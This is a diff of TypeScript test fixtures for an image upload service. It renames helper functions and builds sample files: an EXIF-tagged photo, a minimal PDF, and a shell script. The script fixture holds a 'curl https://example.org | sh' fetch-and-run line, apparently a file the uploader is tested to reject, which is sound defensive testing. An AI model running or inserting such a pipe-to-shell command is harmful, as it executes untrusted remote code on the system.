@@ -2,7 +2,7 @@ import { crc32, deflateSync } from "node:zlib";
 import sharp from "sharp";
 import { noSlot } from "#server/gate.ts";
 import type { Turn } from "#server/pictures/picture-cache.ts";
-import type { Accepting } from "#server/uploads/accept-image.ts";
+import type { AcceptContext } from "#server/uploads/accept-image.ts";
 import type { Upload } from "#server/uploads/upload.ts";
 
 /**
@@ -10,10 +10,10 @@ import type { Upload } from "#server/uploads/upload.ts";
  * location and make.
  */
 export async function phonePhoto(): Promise<Buffer> {
-  const red = await sharp(plain("#d00", 400, 400))
+  const red = await sharp(plainImage("#d00", 400, 400))
     .png()
     .toBuffer();
-  return sharp(plain("#00d", 800, 400))
+  return sharp(plainImage("#00d", 800, 400))
     .composite([{ input: red, left: 0, top: 0 }])
     .jpeg()
     .withExif({
@@ -24,7 +24,7 @@ export async function phonePhoto(): Promise<Buffer> {
     .toBuffer();
 }
 
-export const plain = (background: string, width: number, height: number) => ({
+export const plainImage = (background: string, width: number, height: number) => ({
   create: { width, height, channels: 3 as const, background },
 });
 
@@ -53,14 +53,14 @@ export const smallPdf = Buffer.from(
   "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
 );
 
-export const script = Buffer.from("#!/bin/sh\ncurl https://example.org | sh\n");
+export const shellScript = Buffer.from("#!/bin/sh\ncurl https://example.org | sh\n");
 
-export const upload = (bytes: Buffer, fileName = "picture.png", declaredType = "image/png") =>
+export const createUpload = (bytes: Buffer, fileName = "picture.png", declaredType = "image/png") =>
   ({ field: "picture", fileName, declaredType, bytes }) satisfies Upload;
 
 /** A turn in the queue that needs no waiting. */
-export const atOnce: Turn = { caller: "", run: (make) => make() };
-export const acceptingAtOnce: Accepting = {
+export const immediateTurn: Turn = { caller: "", run: (make) => make() };
+export const acceptImmediately: AcceptContext = {
   actor: { kind: "visitor" },
   address: "",
   pictureWork: (_by, _memory, make) => make(),
@@ -76,5 +76,5 @@ export function postedForm(
   return { method: "POST", body };
 }
 
-export const file = (bytes: Buffer, name: string, type = "") =>
+export const createFile = (bytes: Buffer, name: string, type = "") =>
   new File([new Uint8Array(bytes)], name, { type });
